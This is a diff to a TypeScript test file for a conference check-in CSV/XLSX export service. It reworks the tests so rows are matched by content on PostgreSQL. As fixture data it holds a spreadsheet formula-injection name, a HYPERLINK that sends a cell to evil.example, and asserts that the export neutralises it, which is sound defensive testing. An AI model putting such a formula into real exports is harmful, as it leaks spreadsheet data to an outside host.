@@ -107,11 +107,18 @@ t.test('checkins: admin gets every scan; ops gets counts with no names or ids; d
   t.equal(admin.headers['content-disposition'], 'attachment; filename="checkins-2026-02-15.csv"');
   const scans = csvRecords(admin.rawPayload);
   t.equal(scans.length, 5, 'every scan, the rejected and the undone one too');
-  t.match(scans[0], { time: '2026-02-15T09:00:00+01:00', attendeeId: anna.id, name: 'Anna Müller', organization: "'@TNO", category: 'academia', room: '', kind: 'entry', result: 'ok', reason: '', device: 'desk device', undoneAt: '' });
-  t.match(scans[1], { time: '2026-02-15T09:02:00+01:00', attendeeId: anna.id, room: 'Europa Hall', kind: 'entry', result: 'ok', device: 'door device' });
-  t.match(scans[2], { attendeeId: eve.id, name: `'=HYPERLINK("http://evil.example/?x="&A1,"click")` });
-  t.match(scans[3], { attendeeId: '', name: '', result: 'rejected', reason: 'invalid_code' });
-  t.match(scans[4], { attendeeId: eve.id, undoneAt: '2026-02-15T09:02:00+01:00' });
+  // Each scan found by what it is: PostgreSQL keeps no arrival order and exports by id (ExportService.checkins).
+  const annaVenue = scans.find((r) => r.attendeeId === anna.id && r.room === '');
+  const annaRoom = scans.find((r) => r.attendeeId === anna.id && r.room !== '');
+  const eveRoom = scans.find((r) => r.attendeeId === eve.id && r.room !== '');
+  const rejected = scans.find((r) => r.attendeeId === '');
+  const undone = scans.find((r) => r.attendeeId === eve.id && r.room === '');
+  t.match(annaVenue, { time: '2026-02-15T09:00:00+01:00', attendeeId: anna.id, name: 'Anna Müller', organization: "'@TNO", category: 'academia', room: '', kind: 'entry', result: 'ok', reason: '', device: 'desk device', undoneAt: '' });
+  t.match(annaRoom, { time: '2026-02-15T09:02:00+01:00', attendeeId: anna.id, room: 'Europa Hall', kind: 'entry', result: 'ok', device: 'door device' });
+  t.match(eveRoom, { attendeeId: eve.id, name: `'=HYPERLINK("http://evil.example/?x="&A1,"click")` });
+  t.match(rejected, { attendeeId: '', name: '', result: 'rejected', reason: 'invalid_code' });
+  t.match(undone, { attendeeId: eve.id, undoneAt: '2026-02-15T09:02:00+01:00' });
+  if (built.app.store.kind === 'sqlite') t.same(scans, [annaVenue, annaRoom, eveRoom, rejected, undone], 'on SQLite, in the order they arrived');
 
   const ops = await get(built, '/api/checkins.csv', 'ops');
   t.equal(ops.statusCode, 200);
@@ -132,7 +139,8 @@ t.test('checkins: admin gets every scan; ops gets counts with no names or ids; d
   t.equal(rows.length, 5);
   const adminXlsx = await xlsxRows((await get(built, '/api/checkins.xlsx')).rawPayload);
   t.equal(adminXlsx.length, 6);
-  t.equal(adminXlsx[3]![4], `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, 'neutralised in the XLSX too');
+  const neutralised = `'=HYPERLINK("http://evil.example/?x="&A1,"click")`;
+  t.same(adminXlsx.filter((r) => r[3] === eve.id).map((r) => r[4]), [neutralised, neutralised], 'neutralised in the XLSX too');
 });
 
 t.test('a few thousand attendees stream out and parse back equal, in CSV and XLSX; the CSV imports again as a no-op', async (t) => {
@@ -146,8 +154,11 @@ t.test('a few thousand attendees stream out and parse back equal, in CSV and XLS
   const csv = await get(built, '/api/attendees.csv');
   const rows = csvRecords(csv.rawPayload);
   t.equal(rows.length, n);
+  // In file order on SQLite; PostgreSQL keeps no such order and exports by id (ExportService.attendees).
+  const ordinal = (r: Record<string, string>): number => Number(r.externalId!.slice('ext-'.length));
+  const inFileOrder = built.app.store.kind === 'sqlite' ? rows : [...rows].sort((a, b) => ordinal(a) - ordinal(b));
   t.same(
-    rows.map((r) => [r.name, r.organization, r.email, r.externalId, r.flags]),
+    inFileOrder.map((r) => [r.name, r.organization, r.email, r.externalId, r.flags]),
     Array.from({ length: n }, (_, i) => [`Person ${i}, Jr.`, `'-Org ${i % 7}`, `p${i}@example.org`, `ext-${i}`, 'vip']),
   );
   const xlsx = await xlsxRows((await get(built, '/api/attendees.xlsx')).rawPayload);
